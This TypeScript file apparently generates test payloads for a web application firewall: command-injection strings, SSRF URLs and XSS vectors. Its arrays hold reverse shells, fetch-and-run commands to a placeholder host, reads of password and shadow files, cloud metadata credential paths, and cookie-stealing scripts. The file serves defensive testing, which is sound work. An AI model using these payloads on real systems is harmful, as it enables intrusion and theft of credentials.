/**
 * Generated attack sets where Debian ships no list (data/waf/README.md): command injection in
 * the manner of commix's techniques (separator x command x obfuscation, with the ordinary value
 * an IoT "diagnostics" form expects in front, e.g. an address to ping), and SSRF URLs (targets x
 * address encodings x schemes), following the classes in the OWASP SSRF prevention cheat sheet.
 */
import { mulberry32, picker } from './prng.ts';

const UNIX = [
  'id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la', 'ls', 'pwd', 'sleep 5', 'ping -c 3 127.0.0.1',
  'nc -e /bin/sh 198.51.100.7 4444', 'wget http://198.51.100.7/x.sh -O /tmp/x', 'curl -s http://198.51.100.7/a|sh',
  'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'echo pwned', 'ifconfig', 'ps aux', 'env',
  'busybox telnetd -p 2323 -l /bin/sh', 'tftp -g -r m.arm 198.51.100.7', 'chmod +x /tmp/m', 'rm -rf /tmp/m',
  'python -c "import os;os.system(\'id\')"', "perl -e 'print 1'", 'netstat -an', 'cat /proc/version',
  'head -n1 /etc/shadow', 'uname', 'sleep 10', 'nslookup x.oast.test', 'cd /tmp; wget http://198.51.100.7/b',
];
const WIN = [
  'dir', 'type C:\\windows\\win.ini', 'whoami', 'ipconfig /all', 'net user', 'ver', 'systeminfo', 'tasklist',
  'ping -n 3 127.0.0.1', 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'certutil -urlcache -f http://198.51.100.7/x.exe x.exe', 'cmd /c dir', 'timeout /t 5',
  'powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a\')"',
];
const SEPS = [';', '|', '||', '&', '&&', '\n', ';\n', ' ; ', ' | ', ' && ', '\r\n'];
const PREFIXES = ['', '127.0.0.1', '8.8.8.8', 'abc', 'test.txt', '1', "'", '"', "x'", 'x"', ')'];
const SUFFIXES = ['', '', ';', '#', ' #', '|', '&', "'", '"', ' ;#'];

function obfuscate(cmd: string, how: number): string {
  switch (how) {
    case 1: return cmd.replace(/ /g, '${IFS}');
    case 2: return cmd.replace(/^(\w)(\w)/, "$1'$2'");
    case 3: return cmd.replace(/^(\w)(\w)/, '$1\\$2');
    case 4: return cmd.replace(/^(\w)(\w)/, '$1$@$2');
    case 5: return /^\w+ \S+$/.test(cmd) ? `{${cmd.replace(' ', ',')}}` : cmd;
    case 6: return cmd.replace(/^(\w+)/, '/bin/$1');
    case 7: return cmd.replace(/ /g, '$IFS$9');
    default: return cmd;
  }
}

export function generateRce(seed: number, n: number): string[] {
  const rnd = mulberry32(seed);
  const pick = picker(rnd);
  const out: string[] = [];
  for (let i = 0; i < n; i++) {
    const win = rnd() < 0.25;
    const cmd = win ? pick(WIN) : obfuscate(pick(UNIX), rnd() < 0.5 ? 0 : 1 + Math.floor(rnd() * 7));
    const form = rnd();
    let s: string;
    if (!win && form < 0.15) s = `${pick(PREFIXES)}$(${cmd})`;
    else if (!win && form < 0.3) s = `${pick(PREFIXES)}\`${cmd}\``;
    else s = `${pick(PREFIXES)}${pick(SEPS)}${cmd}${pick(SUFFIXES)}`;
    out.push(s);
  }
  return out;
}

const LOOPBACK = [
  '127.0.0.1', 'localhost', '127.1', '2130706433', '0x7f000001', '0x7f.0x0.0x0.0x1', '0177.0.0.1', '017700000001',
  '0', '0.0.0.0', '[::1]', '[::]', '[0:0:0:0:0:0:0:1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '127.0.0.1.nip.io',
  'localtest.me', '127.127.127.127', 'LOCALHOST', 'app.localhost', '[0000::1]',
];
const METADATA = [
  '169.254.169.254', 'metadata.google.internal', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.169.254.nip.io',
  '[fd00:ec2::254]', '100.100.100.200', '169.254.170.2', 'instance-data', '[::ffff:169.254.169.254]', '0xA9.0xFE.0xA9.0xFE',
];
const PRIVATE = ['10.0.0.1', '192.168.1.1', '172.16.0.10', '10.10.10.10', '192.168.0.254', '172.31.255.1', '[fd12:3456::1]'];
const PATHS = [
  '/', '/admin', '/latest/meta-data/iam/security-credentials/', '/computeMetadata/v1/instance/', '/server-status',
  ':6379/', ':8080/manage', ':2375/containers/json', '/latest/user-data', ':9200/_cat/indices', ':25/',
];

export function generateSsrf(): string[] {
  const out: string[] = [];
  for (const h of [...LOOPBACK, ...METADATA]) {
    for (const p of PATHS) out.push(`http://${h}${p}`);
    out.push(`https://${h}/`, `http://user:pass@${h}/`, `http://${h}:80/`);
  }
  for (const h of ['127.0.0.1', 'localhost', '169.254.169.254', '10.0.0.1']) {
    out.push(`gopher://${h}:6379/_%2A1%0D%0A%244%0D%0AINFO%0D%0A`, `dict://${h}:11211/stats`, `ldap://${h}:389/`, `tftp://${h}/x`);
  }
  out.push('file:///etc/passwd', 'file:///c:/windows/win.ini', 'file://localhost/etc/shadow', 'jar:http://127.0.0.1!/', 'netdoc:///etc/passwd');
  // Private ranges: detected from paranoia level 2 (a LAN address is ordinary in IoT telemetry).
  for (const h of PRIVATE) for (const p of PATHS.slice(0, 4)) out.push(`http://${h}${p}`);
  return out;
}

const XSS_VECTORS = [
  '<script>S</script>', '<img src=x onerror=S>', '<svg onload=S>', '<body onload=S>', '<iframe src="javascript:S">',
  '<a href="javascript:S">x</a>', '<details open ontoggle=S>', '<input autofocus onfocus=S>', '<video><source onerror=S>',
  '<marquee onstart=S>', '<object data="javascript:S">', '<math><mtext><table><mglyph><style><img src=x onerror=S>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '<form><button formaction=javascript:S>x',
  '<svg><animate onbegin=S attributeName=x dur=1s>', '<x onclick=S>click', '<meta http-equiv="refresh" content="0;url=javascript:S">',
  '<select autofocus onfocus=S>', '<textarea autofocus onfocus=S>', '<keygen autofocus onfocus=S>', '<audio src=x onerror=S>',
  '<body onpageshow=S>', '<svg><script>S</script>', '<img src=1 onload=S>', '<iframe srcdoc="<script>S</script>">',
  '<a href="jav&#x09;ascript:S">x</a>', '<img src=x:x onerror=S>', '<div onpointerover=S>x</div>', '<script src=//x.test/a.js></script>',
];
const XSS_ATTR = ['" onmouseover="S', "' autofocus onfocus='S", '" autofocus onfocus=S x="', 'javascript:S', "';S;//", '";S;//', '</script><script>S</script>'];
const SINKS = ['alert(1)', 'alert`1`', 'prompt(document.domain)', 'confirm(1)', "eval(atob('YWxlcnQoMSk='))", "fetch('//x.test/'+document.cookie)", "top['al'+'ert'](1)", '(alert)(1)', 'print()', 'location=name'];
const XSS_CONTEXTS = ['', '', '">', "'>", '</title>', '</textarea>', '--!>', '1"><', 'x</p>'];

export function generateXss(seed: number, n: number): string[] {
  const rnd = mulberry32(seed);
  const pick = picker(rnd);
  const out: string[] = [];
  for (let i = 0; i < n; i++) {
    const sink = pick(SINKS);
    if (rnd() < 0.15) {
      out.push(pick(XSS_ATTR).replace('S', sink));
      continue;
    }
    let v = pick(XSS_VECTORS).replace('S', sink);
    if (rnd() < 0.3) v = v.replace(/<([a-z]+)/g, (_m, t: string) => `<${[...t].map((c) => (rnd() < 0.5 ? c.toUpperCase() : c)).join('')}`);
    if (rnd() < 0.2) v = v.replace(/^<([a-zA-Z]+) /, '<$1/');
    out.push(pick(XSS_CONTEXTS) + v);
  }
  return out;
}
